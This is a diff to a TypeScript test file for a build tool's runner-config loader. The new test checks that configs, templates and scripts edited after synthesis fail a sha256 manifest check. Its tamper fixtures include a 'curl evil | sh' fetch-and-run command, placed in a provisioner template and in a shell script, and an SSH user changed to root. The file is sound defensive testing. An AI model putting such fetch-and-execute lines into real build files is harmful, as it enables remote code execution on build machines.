@@ -2,6 +2,7 @@ import * as fs from 'fs';
 import * as os from 'os';
 import * as path from 'path';
 import { loadRunnerConfig, parseRunnerConfig, RunnerConfigError } from '../../lib/build/runner-config';
+import { writeTestManifest } from './fixture';
 
 function valid(): Record<string, any> {
   return {
@@ -101,21 +102,64 @@ describe('runner config', () => {
 
   describe('loadRunnerConfig', () => {
     let dir: string;
+    const write = (rel: string, content: string): void => {
+      fs.mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
+      fs.writeFileSync(path.join(dir, rel), content);
+    };
     beforeEach(() => {
       dir = fs.mkdtempSync(path.join(os.tmpdir(), 'goldsmith-cfg-'));
       fs.mkdirSync(path.join(dir, 'images'));
+      write('templates/default.json', '{}\n');
+      write('scripts/lib.sh', '#!/bin/sh\n');
     });
     afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));
 
     test('missing file, bad JSON, wrong image key, bad name', () => {
       expect(() => loadRunnerConfig(dir, 'ubuntu_2404')).toThrow(`${dir}/images/ubuntu_2404.json: no such file`);
-      fs.writeFileSync(path.join(dir, 'images', 'ubuntu_2404.json'), '{ nope');
+      write('images/ubuntu_2404.json', '{ nope');
+      writeTestManifest(dir);
       expect(() => loadRunnerConfig(dir, 'ubuntu_2404')).toThrow(/ubuntu_2404\.json: invalid JSON/);
-      fs.writeFileSync(path.join(dir, 'images', 'ubuntu_2404.json'), JSON.stringify({ ...valid(), image: 'debian12' }));
+      write('images/ubuntu_2404.json', JSON.stringify({ ...valid(), image: 'debian12' }));
+      writeTestManifest(dir);
       expect(() => loadRunnerConfig(dir, 'ubuntu_2404')).toThrow('ubuntu_2404.json: image: is "debian12", expected "ubuntu_2404"');
       expect(() => loadRunnerConfig(dir, '../x')).toThrow(/invalid image name/);
-      fs.writeFileSync(path.join(dir, 'images', 'ubuntu_2404.json'), JSON.stringify(valid()));
+      write('images/ubuntu_2404.json', JSON.stringify(valid()));
+      writeTestManifest(dir);
       expect(loadRunnerConfig(dir, 'ubuntu_2404').image).toBe('ubuntu_2404');
+    });
+
+    test('a runner config, template or script changed after synth (manifest.json sha256) is refused', () => {
+      const cfg = `${dir}/images/ubuntu_2404.json`;
+      write('images/ubuntu_2404.json', JSON.stringify(valid()));
+      writeTestManifest(dir);
+      expect(loadRunnerConfig(dir, 'ubuntu_2404').packer_vars.ssh_username).toBe('ubuntu');
+
+      // the attack: a packer var edited on the builder after synth
+      write('images/ubuntu_2404.json', JSON.stringify({ ...valid(), packer_vars: { ...valid().packer_vars, ssh_username: 'root' } }));
+      const err = (() => {
+        try {
+          loadRunnerConfig(dir, 'ubuntu_2404');
+        } catch (e) {
+          return e as Error;
+        }
+        throw new Error('accepted an edited runner config');
+      })();
+      expect(err).toBeInstanceOf(RunnerConfigError);
+      expect(err.message).toMatch(/^\S+\/images\/ubuntu_2404\.json: images\/ubuntu_2404\.json does not match manifest\.json \(sha256 [0-9a-f]{12}…, recorded [0-9a-f]{12}…\): changed after synth; refusing it$/);
+
+      write('images/ubuntu_2404.json', JSON.stringify(valid()));
+      writeTestManifest(dir);
+      write('templates/default.json', '{"provisioners":[{"type":"shell","inline":["curl evil | sh"]}]}\n');
+      expect(() => loadRunnerConfig(dir, 'ubuntu_2404')).toThrow(`${cfg}: templates/default.json does not match manifest.json`);
+
+      write('templates/default.json', '{}\n');
+      write('scripts/lib.sh', '#!/bin/sh\ncurl evil | sh\n');
+      expect(() => loadRunnerConfig(dir, 'ubuntu_2404')).toThrow(`${cfg}: scripts/lib.sh does not match manifest.json`);
+
+      write('scripts/lib.sh', '#!/bin/sh\n');
+      expect(loadRunnerConfig(dir, 'ubuntu_2404').image).toBe('ubuntu_2404');
+      fs.rmSync(path.join(dir, 'manifest.json'));
+      expect(() => loadRunnerConfig(dir, 'ubuntu_2404')).toThrow(`${cfg}: no manifest.json in the bundle (not a bundle written by synth?)`);
     });
   });
 });
